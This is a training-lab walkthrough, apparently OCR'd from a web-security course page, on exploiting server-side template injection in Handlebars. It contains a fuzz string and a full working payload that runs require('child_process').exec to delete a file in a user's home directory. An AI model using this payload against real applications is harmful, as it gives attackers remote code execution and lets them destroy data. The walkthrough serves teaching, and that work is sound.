Lab: Server-side template injection in an unknown language with a documented exploit


This lab is vulnerable to server-side template injection. To solve the lab, identify the template engine and find a documented exploit online that you can use to execute arbitrary code, then delete the morale.txt file from Carlos's home directory.


  1. Notice that when you try to view more details about the first product, a GET request uses the message parameter to render "Unfortunately this product is out of stock" on the home page.
  2. Experiment by injecting a fuzz string containing template syntax from various different template languages,such as ${{<%[%'"}}%\, into the message parameter. Notice that when you submit invalid syntax, an error message is shown in the output. This identifies that the website is using Handlebars.
  3. Search the web for "Handlebars server-side template injection". You should find a well-known exploit posted by @Zombiehelp54.
  4. Modify this exploit so that it calls require("child_process").exec("rm /home/carlos/morale.txt") as follows:

    wrtz{{#with "s" as |string|}} {{#with "e"}} {{#with split as|conslist|}} {{this.pop}} {{this.push (lookup string.sub "constructor")}} {{this.pop}} {{#with string.split as |codelist|}} {{this.pop}} {{this.push "return require('child_process').exec('rm /home/carlos/morale.txt');"}} {{this.pop}} {{#each conslist}} {{#with (string.sub.apply 0 codelist)}} {{this}} {{/with}} {{/each}} {{/with}} {{/with}} {{/with}} {{/with}}
  5. URL encode your exploit and add it as the value of the message parameterin the URL. The final exploit should look like this, but remember to replace YOUR-LAB-ID with your own lab ID:
  6.The lab should be solved when you loadthe URL.

Community solutions